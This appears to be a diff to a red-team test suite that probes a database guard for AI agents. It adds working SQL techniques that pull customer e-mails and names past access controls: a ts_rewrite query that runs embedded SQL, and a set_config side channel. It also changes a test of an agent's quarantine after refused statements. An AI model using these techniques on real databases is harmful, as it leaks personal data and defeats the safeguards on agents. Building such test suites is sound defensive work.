@@ -1376,8 +1376,8 @@ def t_directory_own_customers(ctx: Ctx) -> None:
 
 @technique("rows")
 def t_quarantine_traps_transaction(ctx: Ctx) -> None:
-    """An agent in a transaction (a ticket row locked by an UPDATE) runs into quarantine
-    (five refused statements). Can it still ROLLBACK, and is the ticket released?"""
+    """An agent in a transaction runs into quarantine (one refused statement, then four more
+    the aborted transaction makes the server reject). Can it still ROLLBACK?"""
     mine = ctx.env.ds.open_tickets(ATTACKER)[0]
     c = ctx.connect()
     ctx.q(c, "BEGIN")
@@ -1385,22 +1385,41 @@ def t_quarantine_traps_transaction(ctx: Ctx) -> None:
     for _ in range(5):
         ctx.q(c, "SELECT * FROM customers")
     for q in ("ROLLBACK", "COMMIT", "SELECT 1"):
-        ctx.q(c, q)
+        try:
+            c.execute(q)
+            what = "ok"
+        except psycopg.Error as exc:
+            ctx._error(exc)
+            what = f"{exc.sqlstate}: {str(exc).strip().splitlines()[0][:110]}"
         ctx.out.notes.append(
-            f"{q} after quarantine: transaction status {c.info.transaction_status.name}, "
-            f"last error {ctx.out.error_samples[-1] if ctx.out.error_samples else '-'}"
+            f"{q} after quarantine: {what}; transaction status {c.info.transaction_status.name}"
         )
     with psycopg.connect(ctx.env.pg.dsn(database=sdb.DBNAME), autocommit=True) as direct:
-        try:
-            direct.execute("SET lock_timeout = '2s'")
-            direct.execute('UPDATE crm."Tickets" SET updated_at = now() WHERE ticket_id = %s',
-                           (mine.ticket_id,))  # fmt: skip
-            ctx.out.notes.append("the ticket row is free again")
-        except psycopg.Error as exc:
-            ctx.out.notes.append(
-                f"ticket {mine.ticket_no} still locked by the quarantined session: {exc.sqlstate} "
-                f"{str(exc).strip()[:80]}"
-            )
+        row = direct.execute("SELECT state FROM pg_stat_activity WHERE pid = %s",
+                             (c.info.backend_pid,)).fetchone()  # fmt: skip
+        ctx.out.notes.append(f"the agent's server session is left {row[0] if row else 'gone'!r}")
+
+
+@technique("rows")
+def t_ts_rewrite_query(ctx: Ctx) -> None:
+    """ts_rewrite(query, select_text) runs the SELECT it is given as text; its substitute is
+    a tsquery OR-ing every e-mail, returned as one value."""
+    c = ctx.connect()
+    for a in range(1, N_ALL, 1100):
+        ctx.q(c, "SELECT ts_rewrite('a'::tsquery, 'SELECT ''a''::tsquery, to_tsquery(''simple'', "
+                 "string_agg(quote_literal(\"Em' || 'ail\"), '' | '')) FROM crm.customers "
+                 f"WHERE customer_id BETWEEN {a} AND {a + 1099}')::text")  # fmt: skip
+
+
+@technique("rows")
+def t_shared_account_set_config(ctx: Ctx) -> None:
+    """crm_app without the signing key, naming nobody: the set_config side channel."""
+    c = ctx.connect(sdb.APP_USER)
+    for a in range(1, N_ALL, 1100):
+        ctx.q(c, f"SELECT customer_id FROM customers WHERE customer_id BETWEEN {a} AND {a + 1099} "
+                 f"AND set_config('rt2.v{a}', coalesce(current_setting('rt2.v{a}', true), '') || ',' "
+                 "|| \"Email\" || ' ' || \"FullName\", false) IS NULL")  # fmt: skip
+        ctx.q(c, f"SELECT current_setting('rt2.v{a}')")
 
 
 # -- the analyst: masked contact data ------------------------------------------------------
